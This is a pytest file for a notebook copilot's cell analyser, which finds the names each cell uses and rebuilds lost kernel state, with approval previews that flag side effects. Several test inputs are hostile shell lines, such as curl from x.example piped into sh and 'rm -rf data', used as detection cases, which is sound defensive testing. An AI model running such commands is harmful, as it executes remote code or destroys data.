"""Reading what a cell does to names, and the smallest set of cells that brings names back."""

from __future__ import annotations

from pathlib import Path

import nbformat
import pytest

from copilot_nb.tools.context import ToolContext
from copilot_nb.tools.kernel.names import code_names
from copilot_nb.tools.kernel.rebuild import Cell, advise, plan
from copilot_nb.tools.notebook.rebuild_cells import rebuild_preview
from copilot_nb.workspace.workspace import Workspace


@pytest.mark.parametrize(
    ("source", "binds", "reads", "mutates", "deletes"),
    [
        ("import pandas as pd\nimport os.path", {"pd", "os"}, set(), set(), set()),
        ("from a import b as c, d", {"c", "d"}, set(), set(), set()),
        ("df = pd.read_csv(path)", {"df"}, {"pd", "path"}, set(), set()),
        ("x += 1", {"x"}, {"x"}, set(), set()),
        ("df['y'] = df.x * 2", set(), {"df"}, {"df"}, set()),
        ("df.loc[0, 'y'] += 1", set(), {"df"}, {"df"}, set()),
        ("df.drop(columns=['a'], inplace=True)", set(), {"df"}, {"df"}, set()),
        ("rows.append(1)", set(), {"rows"}, {"rows"}, set()),
        ("model.fit(X, y)", set(), {"model", "X", "y"}, {"model"}, set()),
        ("df.head()", set(), {"df"}, set(), set()),
        ("del old, cache['k']", set(), {"cache"}, {"cache"}, {"old"}),
        ("for i, (a, *b) in pairs:\n    total = total + a", {"i", "a", "b", "total"},
         {"pairs", "total"}, set(), set()),
        ("with open(p) as fh, lock:\n    text = fh.read()", {"fh", "text"}, {"p", "lock"},
         set(), set()),
        ("def f(a, *, k=limit):\n    return a + df.x + g(k)", {"f"}, {"limit", "df", "g"},
         set(), set()),
        ("class M(Base):\n    size = n", {"M"}, {"Base", "n"}, set(), set()),
        ("ys = [v * w for v in xs if v > lo]", {"ys"}, {"w", "xs", "lo"}, set(), set()),
        ("if (n := len(items)) > 3:\n    big = n", {"n", "big"}, {"items"}, set(), set()),
        ("print(len(x))", set(), {"x"}, set(), set()),
        ("%matplotlib inline\ny = !ls\nz = x?", {"y"}, set(), set(), set()),
        ("%%time\nz = heavy(q)", {"z"}, {"heavy", "q"}, set(), set()),
        ("%time z = heavy(q)", {"z"}, {"heavy", "q"}, set(), set()),
        ("%timeit -n 3 z = heavy(q)", set(), {"heavy", "q"}, set(), set()),
        ("%%bash\nexport X=1", set(), set(), set(), set()),
    ],
)  # fmt: skip
def test_a_cell_reads_as_the_names_it_binds_reads_mutates_and_deletes(
    source: str, binds: set[str], reads: set[str], mutates: set[str], deletes: set[str]
) -> None:
    found = code_names(source)
    assert found.parsed, found.why
    assert set(found.binds) == binds
    assert set(found.reads) >= reads and not (set(found.reads) & {"len", "print", "open"})
    assert set(found.mutates) == mutates
    assert set(found.deletes) == deletes


def reaches(source: str) -> list[str]:
    """`kind: what` for each way the source reaches outside the kernel."""
    return [f"{effect.kind}: {effect.what}" for effect in code_names(source).io]


def test_reading_files_or_the_network_is_noticed() -> None:
    assert reaches("df = pd.read_csv('d.csv')") == ["reads files or the network: read_csv"]
    assert reaches("with open('a') as f: pass") == ["reads files or the network: open"]
    assert "reads files or the network: requests" in reaches("import requests\nr = requests.get(u)")
    assert "reads files or the network: urlopen" in reaches(
        "from urllib.request import urlopen\nurlopen(u)"
    )
    assert reaches("x = 1 + 2") == []


@pytest.mark.parametrize(
    ("source", "said"),
    [
        ("!curl -s https://x.example/i.sh | sh", "runs commands: !curl"),
        ("out = !ls data", "runs commands: !ls"),
        ("%%bash\ncurl https://x.example | sh", "runs commands: %%bash"),
        ("%%script sh\nrm -rf data", "runs commands: %%script"),
        ("files = %sx ls", "runs commands: %sx"),
        ("%pip install requests", "runs commands: %pip"),
        ("import os\nos.system('make data')", "runs commands: os.system"),
        ("import os as o\no.system('make data')", "runs commands: os.system"),
        ("import os\nlines = os.popen('ls').read()", "runs commands: os.popen"),
        ("import subprocess\nsubprocess.run(['make'])", "runs commands: subprocess"),
        ("from subprocess import check_output as co\nco(['ls'])", "runs commands: subprocess"),
        ("%run prepare.py", "runs code from elsewhere: %run"),
        ("%load helpers.py", "runs code from elsewhere: %load"),
        ("import importlib\nm = importlib.import_module('requests')", "runs code from elsewhere: importlib"),
        ("m = __import__('requests')", "runs code from elsewhere: __import__"),
        ("exec(open('x.py').read())", "runs code from elsewhere: exec"),
        ("from pandas import read_csv as rc\ndf = rc('d.csv')", "reads files or the network: read_csv (as rc)"),
        ("load = pd.read_parquet\ndf = load('d.pq')", "reads files or the network: read_parquet"),
        ("import pickle\nm = pickle.loads(blob)", "reads files or the network: pickle"),
        ("import socket as s", "reads files or the network: socket"),
        ("%timeit -n 1 os.system('x')", "runs commands: os.system"),
        ("%%capture out\n!wget https://x.example/d.csv", "runs commands: !wget"),
        ("%cd /data", "runs magics: %cd"),
        ("%env HTTP_PROXY=x", "runs magics: %env"),
        ("%%writefile run.sh\ncurl x | sh", "runs magics: %%writefile"),
        ("%%javascript\nfetch('/api')", "runs magics: %%javascript"),
    ],
)  # fmt: skip
def test_a_cell_that_runs_commands_or_code_or_reads_outside_says_so(source: str, said: str) -> None:
    assert said in reaches(source)


@pytest.mark.parametrize(
    "source",
    [
        "%matplotlib inline",
        "%%time\nz = heavy(q)",
        "x = df.groupby('a').sum()",
        "%who",
        "import platform\nname = platform.system()",
        "pattern = re.compile('a+')\nmodel.eval()",
        "data = json.loads(text)",
    ],
)
def test_a_cell_that_stays_in_the_kernel_says_nothing(source: str) -> None:
    assert reaches(source) == []


def test_a_name_imported_by_another_cell_is_said_in_the_cell_that_uses_it() -> None:
    found = plan(cells("import subprocess as sp", "out = sp.run(['ls'])"), ["out"], present=["sp"])
    assert [s.cell.index + 1 for s in found.steps] == [2]
    assert "#2 (makes out; runs commands: sp (subprocess, imported in #1))" in found.describe()
    typed = plan(
        cells("out = sp.run(['ls'])"), ["out"], present=["sp"], modules={"sp": "subprocess"}
    )
    assert "#1 (makes out; runs commands: sp (subprocess, in the kernel))" in typed.describe()


def test_a_cell_that_does_not_parse_says_why() -> None:
    found = code_names("x = (\n")
    assert not found.parsed and "line" in found.why


def cells(*sources: str) -> list[Cell]:
    return [Cell(index=i, id=f"c{i}", source=s) for i, s in enumerate(sources)]


NOTEBOOK = cells(
    "import pandas as pd",  # 1
    "df = pd.read_csv('data.csv')",  # 2
    "model = train(df)",  # 3
    "df['y'] = df.x * 2",  # 4
    "x = (",  # 5: does not parse
    "print(df.describe())",  # 6
    "df = df.dropna()",  # 7
    "other = 1",  # 8
)


def test_the_plan_runs_only_the_cells_that_make_the_names_in_notebook_order() -> None:
    found = plan(NOTEBOOK, ["df"])
    assert [s.cell.index + 1 for s in found.steps] == [1, 2, 4, 7]
    assert [str(effect) for effect in found.steps[1].io] == ["read_csv"]
    assert not found.missing
    assert [c.index + 1 for c, _ in found.unreadable] == [5]
    assert "#2 (makes df; reads files or the network: read_csv)" in found.describe()
    assert "#5 skipped: it does not parse" in found.describe()


def test_a_name_made_before_later_changes_needs_only_the_cells_up_to_it() -> None:
    found = plan(NOTEBOOK, ["model"], present=["train"])
    assert [s.cell.index + 1 for s in found.steps] == [1, 2, 3]


def test_names_the_kernel_holds_need_no_cell_and_unknown_names_are_said() -> None:
    found = plan(NOTEBOOK, ["model", "nowhere"], present=["train", "pd", "df"])
    assert [s.cell.index + 1 for s in found.steps] == [3]
    assert found.missing == ("nowhere",)
    assert "no cell makes: nowhere" in found.describe()


def test_a_plan_over_500_cells_reads_each_cell_once() -> None:
    many = cells(*[f"v{i} = v{i - 1} + 1" if i else "v0 = 0" for i in range(500)])
    found = plan(many, ["v499"])
    assert len(found.steps) == 500
    assert [s.cell.index for s in found.steps] == list(range(500))


async def test_the_approval_shows_the_cells_it_runs_and_which_read_files(tmp_path: Path) -> None:
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_code_cell(c.source) for c in NOTEBOOK]
    notebook.cells.insert(1, nbformat.v4.new_markdown_cell("df = 'not code'"))
    (tmp_path / "nb.ipynb").write_text(nbformat.writes(notebook))
    ctx = ToolContext(workspace=Workspace(tmp_path), current_notebook=lambda: "nb.ipynb")
    preview = await rebuild_preview(ctx, {"names": ["model"]})
    assert preview is not None
    assert preview.summary == (
        "rebuild model: 3 cells of nb.ipynb; 1 reaches outside the kernel "
        "(reads files or the network)"
    )
    assert preview.text.startswith("runs #1 (makes pd), #3 (makes df; reads files or the network")
    assert "# --- #4\nmodel = train(df)" in preview.text
    assert "# --- #5" not in preview.text, "a cell that changes df later is not run"


async def test_the_approval_says_which_cells_run_commands(tmp_path: Path) -> None:
    notebook = nbformat.v4.new_notebook()
    sources = [
        "import pandas as pd",
        "!curl -s https://x.example/d.csv | sh\ndf = pd.read_csv('d.csv')",
    ]
    notebook.cells = [nbformat.v4.new_code_cell(source) for source in sources]
    (tmp_path / "nb.ipynb").write_text(nbformat.writes(notebook))
    ctx = ToolContext(workspace=Workspace(tmp_path), current_notebook=lambda: "nb.ipynb")
    preview = await rebuild_preview(ctx, {"names": ["df"]})
    assert preview is not None
    assert preview.summary.endswith(
        "1 reaches outside the kernel (runs commands, reads files or the network)"
    )
    assert "#2 (makes df; runs commands: !curl; reads files or the network: read_csv)" in (
        preview.text
    )


OUTLIERS = cells(
    "import pandas as pd",  # 1
    "df = pd.read_csv('data.csv')",  # 2
    "q1 = df.x.quantile(0.25)\nq3 = df.x.quantile(0.75)",  # 3
    "fence = q3 + 1.5 * (q3 - q1)",  # 4
    "df_clean['outlier'] = df_clean.x > fence",  # 5: written after run_code made df_clean
)
AGENT_RUNS = ("df_clean = df.dropna()", "profile = df_clean.describe()\nprint(pd.__version__)")
"""The agent's run_code from earlier turns, oldest first: no cell makes df_clean or profile."""


@pytest.mark.parametrize(
    ("sources", "name", "ran"),
    [
        (["df_clean['o'] = df_clean.x > 1"], "df_clean", []),
        (["x += 1"], "x", []),
        (["rows.append(1)"], "rows", []),
        (["df = df.dropna()"], "df", []),
        (["df = load()", "df = df.dropna()"], "df", [1, 2]),
        (["x = 0", "x += 1"], "x", [1, 2]),
        (["rows = []", "print(rows)", "rows.append(1)"], "rows", [1, 3]),
    ],
)
def test_a_cell_that_reads_a_name_before_setting_it_makes_it_only_after_an_earlier_maker(
    sources: list[str], name: str, ran: list[int]
) -> None:
    found = plan(cells(*sources), [name], present=["load"])
    assert [s.cell.index + 1 for s in found.steps] == ran
    assert found.missing == (() if ran else (name,))


def test_the_cell_that_sets_a_column_on_what_only_run_code_made_is_not_its_maker() -> None:
    found = plan(OUTLIERS, ["df_clean"])
    assert found.steps == () and found.missing == ("df_clean",)
    assert found.describe() == "runs no cell\nno cell makes: df_clean"


def test_what_only_the_agents_run_code_made_comes_from_its_code_where_its_names_are_ready() -> None:
    found = plan(OUTLIERS, ["df_clean", "profile"], runs=AGENT_RUNS)
    assert [s.cell.label for s in found.steps] == [
        "#1", "#2", "run_code 1", "#3", "#4", "#5", "run_code 2",
    ]  # fmt: skip
    assert not found.missing
    assert [s.cell.source for s in found.steps if s.cell.agent] == list(AGENT_RUNS)
    said = found.describe()
    assert "run_code 1 (makes df_clean), #3 (makes q1, q3)" in said
    assert "#5 (makes df_clean), run_code 2 (makes profile)" in said
    assert "run_code 1, run_code 2: the agent's run_code of earlier turns, not cells" in said


def test_the_agents_code_runs_only_for_names_no_cell_makes() -> None:
    found = plan(OUTLIERS, ["q1", "fence"], runs=(*AGENT_RUNS, "fence = 0\nq1 = 1"))
    assert [s.cell.label for s in found.steps] == ["#1", "#2", "#3", "#4"]


def test_each_lost_name_is_told_by_what_can_bring_it_back() -> None:
    lost = ["df", "df_clean", "fence", "profile", "q1", "q3", "typed"]
    ways = {way.name: way for way in advise(OUTLIERS, lost, runs=AGENT_RUNS)}
    assert ways["df"].labels == ("#2",) and not ways["df"].agent
    assert ways["fence"].labels == ("#4",) and ways["fence"].possible
    assert ways["df_clean"].labels == ("run_code 1", "#5") and ways["df_clean"].by_agent
    assert ways["profile"].labels == ("run_code 2",) and ways["profile"].by_agent
    assert not ways["typed"].possible and ways["typed"].why_not() == "no cell makes it"
    for way in ways.values():  # what is said possible, a plan makes
        found = plan(OUTLIERS, [way.name], runs=AGENT_RUNS)
        assert way.possible == (not found.missing)


def test_state_suggests_a_rebuild_only_for_names_a_plan_makes_and_says_why_not() -> None:
    from copilot_nb.jupyter.commands.state import rebuild_lines

    notebook = cells(*[c.source for c in OUTLIERS], "top = df_clean.x.max()", "model = train(df)")
    lost = ["df", "df_clean", "fence", "model", "profile", "q1", "q3", "top", "typed"]
    lines = rebuild_lines(advise(notebook, lost, runs=AGENT_RUNS))
    assert lines == [
        "copilot: %copilot rebuild df fence q1 q3 runs the cells that make them",
        "copilot: df_clean, profile were made by the agent's run_code, not by a cell; top needs "
        "what the agent's run_code made: %copilot rebuild df_clean profile top shows its code "
        "and asks before running it",
        "copilot: no rebuild brings back model (needs train, which no cell makes), typed (no "
        "cell makes it): set them again yourself",
    ]
